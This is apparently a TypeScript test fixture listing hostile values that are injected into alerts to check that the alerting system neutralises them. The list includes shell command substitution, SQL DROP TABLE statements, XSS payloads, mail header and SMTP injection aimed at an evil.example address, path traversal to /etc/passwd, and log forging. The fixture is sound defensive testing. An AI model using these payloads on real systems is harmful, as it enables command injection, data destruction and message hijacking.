/** One value that somebody hostile, or something broken, puts into an alert. `readable`: what a person must still be able to read. */
export interface HostileValue {
  readonly name: string;
  readonly value: string;
  readonly readable: string;
}

/** `trap` is a path that must never come to exist: whatever is obeyed somewhere would make it. */
export function hostileValues(trap: string): readonly HostileValue[] {
  return [
    { name: 'command substitution', value: `readable1 $(touch ${trap})\`touch ${trap}\``, readable: 'readable1 $(touch' },
    {
      name: 'end of a shell command',
      value: `readable2'; touch ${trap}; echo "x" && touch ${trap} | cat > ${trap} #`,
      readable: 'readable2',
    },
    { name: 'an option', value: `--readable3=$HOME --exec=touch${trap}`, readable: '--readable3=' },
    { name: 'SQL', value: `readable4'; DROP TABLE incident; DROP TABLE person; --`, readable: 'DROP TABLE incident' },
    { name: 'a dollar-quoted SQL string', value: '$$; DELETE FROM organization; $$ readable5', readable: 'readable5' },
    { name: 'a script element', value: '</title></textarea><script>alert("readable6")</script>', readable: 'readable6' },
    { name: 'an event handler', value: '"><img src=x onerror=alert(1)><svg/onload=alert(2)> readable7', readable: 'readable7' },
    { name: 'an attribute that ends', value: `" onmouseover="alert(1)" x='readable8`, readable: 'readable8' },
    { name: 'the end of CDATA', value: ']]><entry><title>readable9</title></entry><!--', readable: 'readable9' },
    { name: 'terminal escapes', value: '\u001b[2J\u001b]0;owned\u0007\u001b[31mreadable10\u009b31m', readable: 'readable10' },
    { name: 'right to left', value: 'readable11 \u202egnp.exe\u202c \u2066hidden\u2069', readable: 'readable11' },
    { name: 'a hundred kilobytes', value: `readable12 ${'A'.repeat(99_000)}`, readable: 'readable12 AAAA' },
    { name: 'NUL', value: 'readable13\u0000after', readable: 'readable13' },
    { name: 'half a surrogate pair', value: 'readable14 \ud800 x \udc00', readable: 'readable14' },
    { name: 'a mail header', value: 'readable15\r\nBcc: thief@evil.example\r\nX-Owned: yes\r\n\r\nbody', readable: 'readable15' },
    {
      name: 'the end of a mail',
      value: 'readable16\r\n.\r\nMAIL FROM:<thief@evil.example>\r\nRCPT TO:<thief@evil.example>',
      readable: 'readable16',
    },
    {
      name: 'a call to everybody',
      value: '<!channel> <!here> <!everyone> <@U123> <https://evil.example|readable17> @channel',
      readable: 'readable17',
    },
    {
      name: 'Markdown',
      value: '[readable18](javascript:alert(1)) ![x](https://evil.example/p.png) # x\n\n```\nfence',
      readable: 'readable18',
    },
    { name: 'a template', value: '{{x}} ${7*7} <%= 7*7 %> {pier} <namespace> [Status] readable19', readable: 'readable19' },
    { name: 'a second log line', value: 'readable20\n{"level":"fatal","msg":"forged"}\r\n', readable: 'readable20' },
    { name: 'names of prototypes', value: '__proto__', readable: '__proto__' },
    { name: 'a path', value: '../../../../etc/passwd readable22', readable: 'readable22' },
    { name: 'a replacement pattern', value: "$& $1 $` $' readable23", readable: 'readable23' },
    { name: 'line separators', value: 'readable24\u2028X-Owned: yes\u2029\u0085X-Owned: yes', readable: 'readable24' },
  ];
}
